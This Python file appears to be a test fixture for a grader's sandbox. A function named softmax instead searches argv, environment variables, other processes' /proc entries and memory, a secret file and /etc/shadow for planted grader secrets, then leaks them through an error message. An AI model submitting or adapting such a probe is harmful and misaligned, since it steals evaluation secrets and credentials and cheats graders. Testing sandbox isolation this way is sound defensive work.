import os
import sys


def softmax(x, axis=-1):
    """Looks for the grader's secrets wherever a process might find them, and reports what it
    found in its error message (which the grader shows as feedback): its own command line and
    environment (a forked process's are its parent's), every /proc entry it can read (the
    grader's command line, environment, open files and memory), a file where the grader was started,
    /etc/shadow. (Its own memory is
    scanned from outside by the test: a scan from inside finds its own needles.)"""
    needles = [b"--seed", b"SECRET_SEED_VALUE", b"SECRET_ENV_VALUE", b"SECRET_PATH_VALUE"]
    found = set()

    def look(label, data):
        for n in needles:
            if n in data:
                found.add(f"{label}:{n.decode()}")

    look("argv", " ".join(sys.argv + list(getattr(sys, "orig_argv", []))).encode())
    look("environ", repr(dict(os.environ)).encode())
    try:
        pids = ["self", *(p for p in os.listdir("/proc") if p.isdigit())]
    except OSError:
        # Then guess: the grader and the zygote started shortly before this process.
        pids = ["self", *(str(p) for p in range(max(1, os.getpid() - 20000), os.getpid()))]
    for pid in pids:
        for name in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    look(f"/proc/{pid}/{name}", f.read())
            except OSError:
                pass
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                look(f"/proc/{pid}/fd", os.readlink(f"/proc/{pid}/fd/{fd}").encode())
        except OSError:
            pass
        if pid not in ("self", str(os.getpid())):  # another process's memory: the grader's, a batch's
            try:
                with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
                    for line in maps:
                        parts = line.split()
                        start, end = (int(v, 16) for v in parts[0].split("-"))
                        if "r" in parts[1] and end - start <= 2**20 and len(parts) < 6:  # small, anonymous: Python's
                            try:
                                mem.seek(start)
                                look(f"/proc/{pid}/mem", mem.read(end - start))
                            except (OSError, OverflowError, ValueError):
                                pass
            except OSError:
                pass
    try:  # a file in the directory the grader was started from
        with open("SECRET_FILE", "rb") as f:
            found.add("file:" + f.read().decode())
    except OSError:
        pass
    try:
        with open("/etc/shadow", "rb") as f:
            found.add("shadow:" + str(len(f.read())))
    except OSError:
        pass
    raise RuntimeError("FOUND " + " ".join(sorted(found)) + " END")
